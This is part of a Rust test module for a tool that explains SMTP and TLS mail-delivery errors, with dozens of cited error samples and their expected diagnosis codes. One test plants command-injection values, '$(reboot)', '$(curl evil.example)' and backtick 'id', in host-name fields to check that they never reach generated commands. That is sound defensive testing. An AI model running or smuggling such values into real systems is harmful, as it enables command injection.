            "kjctech.net, 'Having Trouble Receiving Emails from Office 365 to Exchange Server 2003'",
        ),
        (
            "451 4.4.0 Primary target IP address responded with: \"451 5.7.3 Must issue a STARTTLS command first.\" Attempted failover to alternate host, but that did not succeed.",
            Code::EgressIpBlocklisted,
            "johnbai (TechNet), 'O365 & On-Premises Transport Queuing: Lessons Learned from CBL' (2013)",
        ),
        (
            "451 4.4.397 Error communicating with target host. -> 421 4.4.2 Connection dropped due to TimedOut",
            Code::SmtpConnectionClosed,
            "ericwhitehill (TechNet), 'Tales of the weird: unable to send TLS encrypted email to Office 365'",
        ),
        (
            "550 5.7.64 TenantAttribution; Relay Access Denied",
            Code::ConnectorTenantAttribution,
            "Microsoft Learn, 'Fix error code 550 5.7.64 TenantAttribution; Relay Access Denied in Exchange Online'",
        ),
        (
            "454 4.7.5 The certificate specified in TlsCertificateName of the SendConnector could not be found.",
            Code::SenderCertificateMissing,
            "Microsoft Learn (archive), lalitbisht, 'Mailflow issue from Exchange On-prem to Office 365'",
        ),
        (
            "454 4.7.5 certificate validation failure",
            Code::SenderCertificateMissing,
            "blog.petersenit.co.uk, 'Office 365 454 4.7.5 certificate validation failure' (2017)",
        ),
        (
            "2017-02-28T10:00:00.000Z,Outbound to Office 365,08D45F,5,10.0.0.5:24512,104.47.1.33:25,*,,TLS negotiation failed with error NoCredentials",
            Code::SenderCertificateMissing,
            "supertekboy.com, 'TLS negotiation failed with error NoCredentials' (2017)",
        ),
        (
            "TLS negotiation failed with error UnknownCredentials",
            Code::SenderCertificateMissing,
            "Microsoft Support KB 4051498; therealcontoso.com, 'TLS negotiation failed with error UnknownCredentials' (2017)",
        ),
        (
            "550 5.7.606 Access denied, banned sending IP [203.0.113.66]. To request removal from this list please visit https://sender.office.com/",
            Code::EgressIpBlocklisted,
            "Microsoft Learn, 'Use the delist portal to remove yourself from the blocked senders list'",
        ),
        (
            "550 5.7.511 Access denied, banned sender[203.0.113.66]. To request removal from this list, forward this message to delist@microsoft.com.",
            Code::EgressIpBlocklisted,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (5.7.511)",
        ),
        (
            "451 4.7.500 Server busy. Please try again later from [203.0.113.66]. (S77714) [BN8NAM11FT012.eop-nam11.prod.protection.outlook.com]",
            Code::SmtpRateLimited,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4.7.500-699)",
        ),
        (
            "451 4.7.650 Access denied, please try again later",
            Code::SmtpRateLimited,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4.7.500-699)",
        ),
        (
            "550 5.7.506 Access Denied, Bad HELO",
            Code::SmtpRejected,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (5.7.506)",
        ),
        (
            "Send connector Internet couldn't connect to remote domain fabrikam.com. The send connector requires Transport Layer Security (TLS) authentication, but is unable to establish TLS with the receiving server for the remote domain.",
            Code::StarttlsNotOffered,
            "TechNet, 'Event ID 2015 SmtpSendTLSRequiredFailed' (ff982694, Exchange 2010)",
        ),
        (
            "451 5.7.3 STARTTLS is required to send mail",
            Code::StarttlsNotOffered,
            "field-notes.md §2 (the [Message=] of 4.4.317)",
        ),
        (
            "451 4.7.321 starttls-not-supported: Destination mail server must support TLS to receive mail.",
            Code::StarttlsNotOffered,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4/5.7.321)",
        ),
        (
            "451 4.7.322 certificate-expired: Destination mail server's certificate is expired.",
            Code::CertExpired,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4/5.7.322)",
        ),
        (
            "451 4.7.323 tlsa-invalid: The domain failed DANE validation.",
            Code::DaneTlsaInvalid,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4/5.7.323)",
        ),
        (
            "451 4.7.324 dnssec-invalid: Destination domain returned invalid DNSSEC records",
            Code::DaneDnssecInvalid,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4/5.7.324)",
        ),
        (
            "451 4.7.325 certificate-host-mismatch: Remote certificate MUST have a common name or subject alternative name matching the hostname (DANE)",
            Code::CertNameMismatch,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4/5.7.325)",
        ),
        (
            "\"result-type\": \"sts-policy-fetch-error\"",
            Code::MtaStsPolicyFetchFailed,
            "RFC 8460 §4.3.2.2 (a failure-details entry of a TLS report)",
        ),
        (
            "\"result-type\": \"sts-webpki-invalid\"",
            Code::MtaStsPolicyCertificateInvalid,
            "RFC 8460 §4.3.2.2 (a failure-details entry of a TLS report)",
        ),
        (
            "\"result-type\": \"sts-policy-invalid\"",
            Code::MtaStsPolicyInvalid,
            "RFC 8460 §4.3.2.2 (a failure-details entry of a TLS report)",
        ),
        (
            "Test-Certificate : The certificate is revoked. 0x80092010 (-2146885616 CRYPT_E_REVOKED)",
            Code::CertRevoked,
            "Windows CRYPT_E_REVOKED (winerror.h) as PowerShell's Test-Certificate prints it; composed (no public sample of an SMTP certificate found)",
        ),
        (
            "Test-Certificate : The revocation function was unable to check revocation because the revocation server was offline. 0x80092013 (-2146885613 CRYPT_E_REVOCATION_OFFLINE)",
            Code::CrlUnreachable,
            "Windows CRYPT_E_REVOCATION_OFFLINE (winerror.h) as PowerShell's Test-Certificate prints it; catalogue sender string",
        ),
        (
            "Status             : RevocationCheckFailure",
            Code::CrlUnreachable,
            "Microsoft Learn, 'Get-ExchangeCertificate' (the Status values); catalogue sender string",
        ),
        (
            "\"result-type\": \"certificate-not-trusted\"",
            Code::CertUntrusted,
            "RFC 8460 §4.3.2 (TLS-RPT result types); IANA STARTTLS validation result types",
        ),
        (
            "451 4.4.0 DNS query failed. The error was: SMTPSEND.DNS.NonExistentDomain; nonexistent domain",
            Code::DnsNxdomain,
            "Exchange Server queue LastError, as quoted in Microsoft Q&A threads on SMTPSEND.DNS.NonExistentDomain",
        ),
        (
            "451 4.4.0 DNS query failed. The error was: DNS query failed with error ErrorRetry",
            Code::DnsLookupFailed,
            "Exchange Server queue LastError (Microsoft Q&A, 'DNS query failed with error ErrorRetry')",
        ),
        (
            "status=bounced (Host or domain name not found. Name service error for name=contoso.invalid type=MX: Host not found)",
            Code::DnsNxdomain,
            "Postfix smtp_addr.c (`Host or domain name not found. Name service error for name=%s type=%s`)",
        ),
        (
            "status=deferred (Host or domain name not found. Name service error for name=contoso.com type=MX: Host not found, try again)",
            Code::DnsNxdomain,
            "Postfix smtp_addr.c: the name-service error with the temporary suffix (the first phrase is the more specific)",
        ),
        (
            "status=deferred (Host not found, try again)",
            Code::DnsLookupFailed,
            "Postfix dns_lookup.c (`Host not found, try again`)",
        ),
        (
            "status=bounced (Domain contoso.com does not accept mail (nullMX))",
            Code::DnsNullMx,
            "Postfix 3.x smtp_addr.c (RFC 7505 null MX)",
        ),
        (
            "warning: numeric domain name in resource data of MX record for contoso.com: 192.0.2.25",
            Code::DnsMxInvalid,
            "Postfix smtp_addr.c (`numeric domain name in resource data of MX record`)",
        ),
        (
            "postfix/smtp[3141]: 9A2B3C4D: to=<a@fabrikam.com>, relay=none, delay=0.5, dsn=4.7.4, status=deferred (TLS is required, but was not offered by host mx.fabrikam.com[198.51.100.7])",
            Code::StarttlsNotOffered,
            "Trend Micro KA-0009041; Postfix smtp_proto.c (`TLS is required, but was not offered by host %s`)",
        ),
        (
            "postfix/smtp[3141]: 9A2B3C4D: to=<a@fabrikam.com>, relay=mx.fabrikam.com[198.51.100.7]:25, dsn=4.7.5, status=deferred (Cannot start TLS: handshake failure)",
            Code::TlsHandshakeFailed,
            "Postfix smtp_proto.c (`Cannot start TLS: handshake failure`)",
        ),
        (
            "postfix/smtp[3141]: server certificate verification failed for mx.fabrikam.com[198.51.100.7]:25: certificate has expired",
            Code::CertExpired,
            "Postfix tls_verify.c (`%s certificate verification failed for %s: certificate has expired`)",
        ),
        (
            "depth=0 CN = mx.fabrikam.com\nverify error:num=18:self-signed certificate",
            Code::CertSelfSigned,
            "openssl s_client -starttls smtp output (OpenSSL 3 X509_V_ERR_DEPTH_ZERO_SELF_SIGNED_CERT); anchors.md §(c) num=18",
        ),
        (
            "verify error:num=20:unable to get local issuer certificate",
            Code::CertChainIncomplete,
            "openssl s_client output; Let's Encrypt community thread 207518 (anchors.md §(c) num=20)",
        ),
        (
            "postfix/smtp[3141]: server certificate verification failed for mx.fabrikam.com[198.51.100.7]:25: certificate not yet valid",
            Code::CertNotYetValid,
            "Postfix tls_verify.c (`%s certificate verification failed for %s: certificate not yet valid`)",
        ),
        (
            "verify error:num=19:self-signed certificate in certificate chain",
            Code::CertUntrusted,
            "openssl s_client output (anchors.md §(c) num=19: self-signed in chain)",
        ),
        (
            "postfix/smtp[3141]: Untrusted TLS connection established to mx.fabrikam.com[198.51.100.7]:25: TLSv1.3 ... status=deferred (Server certificate not verified) untrusted issuer",
            Code::CertUntrusted,
            "Postfix TLS_README (`Untrusted TLS connection established`); tls_verify.c (`untrusted issuer`)",
        ),
        (
            "postfix/smtp[3141]: connect to mx.fabrikam.com[198.51.100.7]:25: Connection refused",
            Code::ConnectRefused,
            "Postfix smtp_connect.c (`connect to %s[%s]:%d: %m`)",
        ),
        (
            "postfix/smtp[3141]: connect to mx.fabrikam.com[198.51.100.7]:25: Connection timed out",
            Code::ConnectTimeout,
            "Postfix smtp_connect.c (`connect to %s[%s]:%d: %m`)",
        ),
        (
            "postfix/smtp[3141]: connect to mx.fabrikam.com[2001:db8::7]:25: No route to host",
            Code::ConnectFailed,
            "Postfix smtp_connect.c (`connect to %s[%s]:%d: %m`)",
        ),
        (
            "postfix/smtp[3141]: connect to mx.fabrikam.com[2001:db8::7]:25: Network is unreachable",
            Code::ConnectFailed,
            "Postfix smtp_connect.c (`connect to %s[%s]:%d: %m`)",
        ),
        (
            "status=deferred (conversation with mx.fabrikam.com[198.51.100.7] timed out while receiving the initial server greeting)",
            Code::BannerTimeout,
            "Postfix smtp_trouble.c / smtp_chat.c (`timed out while %s`)",
        ),
        (
            "status=deferred (lost connection with mx.fabrikam.com[198.51.100.7] while performing the EHLO handshake)",
            Code::SmtpConnectionClosed,
            "Postfix smtp_trouble.c (`lost connection with %s while %s`)",
        ),
        (
            "postfix/smtp[3141]: warning: TLS library problem: error:0A000126:SSL routines::unexpected eof while reading",
            Code::TlsHandshakeFailed,
            "Postfix tls_misc.c (`TLS library problem: %s`)",
        ),
        (
            "SSL routines:ssl3_get_record:wrong version number",
            Code::TlsModeMismatch,
            "OpenSSL SSL_R_WRONG_VERSION_NUMBER, as swaks and Postfix log it on a port of the other TLS mode",
        ),
        (
            "status=deferred (host mail.contoso.com[203.0.113.5] said: 454 4.7.0 TLS not available due to local problem (in reply to STARTTLS command))",
            Code::StarttlsRejected,
            "Postfix smtpd.c / postscreen (`454 4.7.0 TLS not available due to local problem`)",
        ),
        (
            "postfix/smtpd[2718]: SSL_accept error from unknown[192.0.2.44]: lost connection",
            Code::TlsHandshakeFailed,
            "Postfix tls_server.c (`SSL_accept error from %s: %d`)",
        ),
        (
            "host mx.fabrikam.com[198.51.100.7] said: 530 5.7.0 Must issue a STARTTLS command first (in reply to MAIL FROM command)",
            Code::TlsRequired,
            "Postfix smtpd.c (`530 5.7.0 Must issue a STARTTLS command first`); mxio.io 'starttls-required'",
        ),
        (
            "454 4.7.0 Connection is not TLS encrypted. Recipient organization requires TLS",
            Code::TlsRequired,
            "Fortinet community, 'Technical Tip: How to prevent Connection is not TLS encrypted'",
        ),
        (
            "host mx.fabrikam.com[198.51.100.7] said: 554 5.7.1 Service unavailable; Client host [203.0.113.66] blocked using zen.spamhaus.org; https://www.spamhaus.org/query/ip/203.0.113.66 (in reply to RCPT TO command)",
            Code::EgressIpBlocklisted,
            "Postfix smtpd_check.c (reject_rbl_client: `Service unavailable; Client host [%s] blocked using %s`)",
        ),
        (
            "host mx.fabrikam.com[198.51.100.7] said: 421 4.7.0 mx.fabrikam.com Error: too many connections from 203.0.113.66",
            Code::SmtpRateLimited,
            "Postfix smtpd.c / anvil (`Error: too many connections from %s`); Internet.nl issue 658",
        ),
        (
            "500 5.5.1 Command unrecognized: \"XXXXXXXX\"",
            Code::MiddleboxStarttlsMangled,
            "helpdesk.perfectmail.com, 'Why is Google/Gmail/Postini giving a command unrecognized XXXXXXXX error'",
        ),
        (
            "host mx.fabrikam.com[198.51.100.7] said: 502 5.5.2 Error: command not recognized (in reply to STARTTLS command)",
            Code::MiddleboxStarttlsMangled,
            "Postfix smtpd.c (`502 5.5.2 Error: command not recognized`); anchors.md §(d) Cisco ASA",
        ),
        (
            "220 *************************************",
            Code::MiddleboxMaskedBanner,
            "serverfault 398147 (Cisco ASA mask-banner); Cisco ASA CLI configuration guide, 'Defaults for ESMTP Inspection'",
        ),
        (
            "250-PIPELINING\r\n250-XXXXXXXA\r\n250 XXXB",
            Code::MiddleboxMaskedKeywords,
            "fefe.de / nibbler.de public transcript (2006) of Cisco ESMTP inspection",
        ),
        (
            "Info: DCID 1234567 STARTTLS command not supported.",
            Code::SmtpReplyIrregular,
            "Cisco, 'STARTTLS available but TLS negotiation fails' (doc 212587)",
        ),
        (
            "451 4.4.0 Primary target IP address responded with: \"441 4.4.1 Error encountered while communicating with primary target IP address: \"Failed to connect. Winsock error code: 10060, Win32 error code: 10060.\"\"",
            Code::ConnectTimeout,
            "Exchange Server queue LastError (Microsoft Q&A threads on Winsock error code 10060)",
        ),
        (
            "441 4.4.1 Error encountered while communicating with primary target IP address: \"Failed to connect. Winsock error code: 10061, Win32 error code: 10061.\" The last endpoint attempted was 203.0.113.5:25",
            Code::ConnectRefused,
            "Exchange Server queue LastError (Microsoft Q&A threads on Winsock error code 10061)",
        ),
        (
            "451 4.4.0 Primary target IP address responded with: \"421 4.2.1 Unable to connect.\" Attempted failover to alternate host, but that did not succeed. The last endpoint attempted was 203.0.113.5:25",
            Code::ConnectTimeout,
            "anchors.md §(c) (support.microsoft.com/help/4051498: queue next to UnknownCredentials)",
        ),
        (
            "451 4.4.0 Primary target IP address responded with: \"421 4.4.1 Connection timed out.\" Attempted failover to alternate host",
            Code::ConnectTimeout,
            "anchors.md §(c) (support.microsoft.com/help/4051498)",
        ),
        (
            "TLS Negotiation failed, the certificate doesn't match the host., code: 0",
            Code::CertNameMismatch,
            "blog.gaiterjones.com, 'GMAIL TLS Negotiation failed, the certificate doesn't match the host' (2020); antradar.com (2020)",
        ),
        (
            "Remote certificate failed MTA-STS validation. Reason: UntrustedRoot",
            Code::CertUntrusted,
            "Microsoft Learn, 'Enhancing mail flow with MTA-STS' (Exchange Online outbound MTA-STS failures); catalogue sender string",
        ),
        (
            "The certificate is valid but it is selfsigned.",
            Code::CertSelfSigned,
            "TechNet bb331963 (Exchange certificate validation status)",
        ),
        (
            "postfix/smtp[3141]: SSL_connect error to mx.fabrikam.com[198.51.100.7]:25: -1",
            Code::TlsHandshakeFailed,
            "Postfix tls_client.c (`SSL_connect error to %s: %d`)",
        ),
        (
            "postfix/smtpd[2718]: warning: TLS library problem: error:0A0000C1:SSL routines::no shared cipher",
            Code::TlsHandshakeFailed,
            "Postfix tls_misc.c with OpenSSL SSL_R_NO_SHARED_CIPHER",
        ),
        (
            "postfix/smtp[3141]: warning: TLS library problem: error:0A000102:SSL routines::unsupported protocol",
            Code::TlsLegacyOnly,
            "Postfix tls_misc.c with OpenSSL SSL_R_UNSUPPORTED_PROTOCOL",
        ),
        (
            "warning: TLS library problem: error:14094410:SSL routines:ssl3_read_bytes:sslv3 alert handshake failure",
            Code::TlsHandshakeFailed,
            "Postfix tls_misc.c with OpenSSL SSL_R_SSLV3_ALERT_HANDSHAKE_FAILURE",
        ),
        (
            "status=deferred (Server certificate not verified)",
            Code::CertUntrusted,
            "Postfix smtp_proto.c (`Server certificate not verified`)",
        ),
        (
            "postfix/smtp[3141]: certificate verification failed for mx.fabrikam.com[198.51.100.7]:25: not designated for use as a server certificate",
            Code::CertNoServerAuth,
            "Postfix tls_verify.c (`not designated for use as a %s certificate`)",
        ),
        (
            "status=deferred (TLS is required, but host mx.fabrikam.com[198.51.100.7] refused to start TLS: 454 4.7.0 TLS not available due to local problem)",
            Code::StarttlsRejected,
            "Postfix smtp_proto.c (`TLS is required, but host %s refused to start TLS: %s`)",
        ),
        (
            "status=deferred (TLS is required, but host mx.fabrikam.com[198.51.100.7] refused to start TLS: 500 5.5.1 Command unrecognized: \"XXXXXXXX\")",
            Code::MiddleboxStarttlsMangled,
            "Postfix smtp_proto.c with the Postini reply of anchors.md §(d)",
        ),
        (
            "postfix/smtp[3141]: certificate verification failed for mx.fabrikam.com[198.51.100.7]:25: untrusted issuer /C=US/O=Example/CN=Example Issuing CA",
            Code::CertUntrusted,
            "Postfix tls_verify.c (`certificate verification failed for %s: untrusted issuer %s`)",
        ),
        (
            "2024-05-02T08:00:01.210Z,Internet,08DC6A,2,10.0.0.5:31337,198.51.100.7:25,>,EHLO mail.contoso.com,\n2024-05-02T08:00:01.260Z,Internet,08DC6A,3,10.0.0.5:31337,198.51.100.7:25,<,250-mx.fabrikam.com Hello [203.0.113.66],\n2024-05-02T08:00:01.261Z,Internet,08DC6A,4,10.0.0.5:31337,198.51.100.7:25,<,250 8BITMIME,",
            Code::StarttlsNotOffered,
            "composed in the SmtpSend CSV format of Microsoft Learn 'Protocol logging' (no STARTTLS in the EHLO reply)",
        ),
        (
            "SSL policy error: RemoteCertificateNameMismatch",
            Code::CertNameMismatch,
            "nodinite docs, 'FAQ - SSL TLS Certificate Name Mismatch'",
        ),
        (
            "Cert Hostname DOES NOT VERIFY (mail.contoso.com != www.contoso.com) So email is encrypted but the host is not verified",
            Code::CertNameMismatch,
            "community.letsencrypt.org thread 207518 (CheckTLS output)",
        ),
        (
            "Certificate subject does not match the passed value.",
            Code::CertNameMismatch,
            "TechNet bb331963 (Exchange certificate validation status)",
        ),
        (
            "A certificate chain processed, but ended in a root certificate which is not trusted by the trust provider.",
            Code::CertUntrusted,
            "TechNet bb331963 (CAPI2 800B0109)",
        ),
        (
            "verify error:num=66:EE certificate key too weak",
            Code::CertWeakKey,
            "OpenSSL X509_V_ERR_EE_KEY_TOO_SMALL text, as openssl s_client prints it",
        ),
        (
            "verify error:num=68:CA signature digest algorithm too weak",
            Code::CertWeakSignature,
            "OpenSSL X509_V_ERR_CA_MD_TOO_WEAK text, as openssl s_client prints it",
        ),
        (
            "verify error:num=26:unsupported certificate purpose",
            Code::CertNoServerAuth,
            "OpenSSL X509_V_ERR_INVALID_PURPOSE text, as openssl s_client prints it",
        ),
        // From the new-user trial of issue 10.
        (
            "postfix/smtp[138]: certificate verification failed for gmail-smtp-in.l.google.com[108.177.126.26]:25: untrusted issuer /OU=GlobalSign Root CA - R2/O=GlobalSign/CN=GlobalSign",
            Code::CertUntrusted,
            "github.com/bokysan/docker-postfix issue 51 (the sending Postfix had no CA file)",
        ),
        (
            "451 4.7.6 [internal] STARTTLS required but not advertised",
            Code::StarttlsNotOffered,
            "Broadcom knowledge article 416007, 'Inbound email delivery issue: STARTTLS not advertised'",
        ),
        (
            "The remote SMTP service does not support TLS.\nThe recipient could not be processed because it would violate the security policy in force. #5.7.0 SMTP: 530 5.7.0 Must issue a start TLS command first.",
            Code::StarttlsNotOffered,
            "Microsoft KB 329061 (Exchange 2003 NDR), mskb.pkisolutions.com/kb/329061",
        ),
        (
            "550 5.7.321 starttls not supported: the destination mail server must support TLS to receive mail",
            Code::StarttlsNotOffered,
            "Microsoft Learn, 'How SMTP DANE works' (5.7.321 without its RFC 8460 word)",
        ),
        (
            "reason: 403 4.7.0 TLS handshake failed",
            Code::TlsHandshakeFailed,
            "newbetuts.com 667692, 'reason: 403 4.7.0 TLS handshake failed' (a Server Fault mirror)",
        ),
        (
            "421 4.4.2 Connection dropped due to SocketError\nTLS negotiation failed with error SocketError",
            Code::TlsLegacyOnly,
            "Microsoft Learn, 'Can't send or receive emails after TLS 1.0/1.1 is disabled' (send-receive-emails-socketerror)",
        ),
    ];

    #[test]
    fn every_sample_is_explained_as_its_code_first() {
        let mut wrong = Vec::new();
        for (sample, code, source) in SAMPLES {
            let e = crate::explain::explain_text(sample);
            let got = e.matches.first().map(|m| m.code);
            if got != Some(*code) {
                wrong.push(format!("{sample}\n  want {code}, got {got:?} ({source})"));
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    #[ignore = "prints every sample's answer for a review; asserts nothing"]
    fn print_every_answer() {
        for (sample, _, _) in SAMPLES {
            let e = crate::explain::explain_text(sample);
            println!("=== {sample}");
            for m in &e.matches {
                println!(
                    "--- {} ({:?}): {}\n{}",
                    m.code,
                    m.side,
                    m.meaning,
                    m.fix.text()
                );
            }
            if let Some(p) = e.probe {
                println!("probe: {}", p.command);
            }
        }
    }

    #[test]
    fn every_pattern_is_reached_by_a_sample() {
        let mut reached = vec![false; PATTERNS.len()];
        for (sample, _, _) in SAMPLES {
            for i in matching(&sample.to_ascii_lowercase()) {
                reached[i] = true;
            }
        }
        let missing: Vec<&str> = PATTERNS
            .iter()
            .zip(&reached)
            .filter(|(_, r)| !**r)
            .map(|(p, _)| p.name)
            .collect();
        assert!(missing.is_empty(), "no sample for {missing:?}");
        assert!(PATTERNS.len() >= 40, "{} patterns", PATTERNS.len());
        assert!(SAMPLES.len() >= 40, "{} samples", SAMPLES.len());
    }

    #[test]
    fn pattern_names_are_unique_and_phrases_lower_case() {
        let mut names = std::collections::HashSet::new();
        for p in PATTERNS {
            assert!(names.insert(p.name), "{}", p.name);
            for n in p.all.iter().chain(p.none) {
                assert_eq!(*n, n.to_ascii_lowercase(), "{}", p.name);
            }
            assert!(!p.causes.is_empty() && !p.meaning.is_empty(), "{}", p.name);
        }
    }

    #[test]
    fn every_answer_has_a_usable_fix() {
        for (sample, _, _) in SAMPLES {
            for m in crate::explain::explain_text(sample).matches {
                assert!(!m.fix.text().trim().is_empty(), "{sample}: {}", m.code);
                for (shell, text) in m.fix.commands() {
                    assert!(!text.trim().is_empty(), "{sample}: empty {shell:?} command");
                }
            }
        }
    }

    #[test]
    fn catalogue_sender_strings_catch_what_no_pattern_does() {
        // A catalogue sender string of cert-chain-incomplete without a pattern of its own.
        let e =
            crate::explain::explain_text("verify error: unable to verify the first certificate");
        assert_eq!(
            e.matches.first().map(|m| m.code),
            Some(Code::CertChainIncomplete)
        );
    }

    #[test]
    fn a_message_detail_beats_the_bare_code() {
        let e = crate::explain::explain_text(
            "450 4.7.320 Certificate validation failed [Message=CertificateExpired]",
        );
        assert_eq!(e.matches[0].code, Code::CertExpired);
        assert!(e.matches.iter().any(|m| m.code == Code::CertNameMismatch));
        // A string several codes list adds none of them on its own, nor does one inside a
        // phrase a pattern already explained.
        let e = crate::explain::explain_text(SAMPLES[4].0);
        assert!(
            !e.matches.iter().any(|m| m.code == Code::TlsRequired),
            "4.4.317: EXO is the sender"
        );
        let e = crate::explain::explain_text(SAMPLES[0].0);
        assert_eq!(
            e.matches.len(),
            1,
            "{:?}",
            e.matches.iter().map(|m| m.code).collect::<Vec<_>>()
        );
    }

    #[test]
    fn fixes_speak_the_receivers_language() {
        let exo_to_onprem = crate::explain::explain_text(SAMPLES[4].0);
        assert_eq!(exo_to_onprem.matches[0].fix.key.family, Family::Exchange);
        let postfix_server = crate::explain::explain_text(
            "postfix/smtpd[1]: warning: cannot get RSA certificate from file \"/etc/ssl/x.pem\": disabling TLS support; 454 4.7.0 TLS not available due to local problem",
        );
        assert_eq!(postfix_server.matches[0].fix.key.family, Family::Postfix);
        let tenant =
            crate::explain::explain_text("550 5.7.64 TenantAttribution; Relay Access Denied");
        assert_eq!(tenant.matches[0].side, Side::Sender);
        assert!(
            tenant.matches[0]
                .fix
                .commands()
                .any(|(s, _)| s == Shell::ExchangeOnlinePowerShell)
        );
    }

    #[test]
    fn hostile_text_never_reaches_a_command() {
        let evil = "450 4.7.320 Certificate validation failed [Message=SubjectMismatch] [LastAttemptedServerName=evil$(reboot).example] \
                    TlsDomain: $(curl evil.example) tlsa-invalid TLS is required, but was not offered by host `id`.example[1.2.3.4]";
        let e = crate::explain::explain_text(evil);
        for m in &e.matches {
            for (_, text) in m.fix.commands() {
                assert!(
                    !text.contains("reboot") && !text.contains('`') && !text.contains("$(curl"),
                    "{text}"
                );
            }
        }
        assert!(crate::explain::extract::host_name("`id`.example").is_none());
    }

    #[test]
    fn extraction_feeds_the_context() {
        let x = extract("LastAttemptedServerName=mail.contoso.com");
        let lower = "lastattemptedservername=mail.contoso.com";
        let c = context(&x, lower);
        assert_eq!(c.host(), Some("mail.contoso.com"));
        assert_eq!(c.receiver, ServerKind::Exchange);
        assert_eq!(c.port, 25);
    }
}
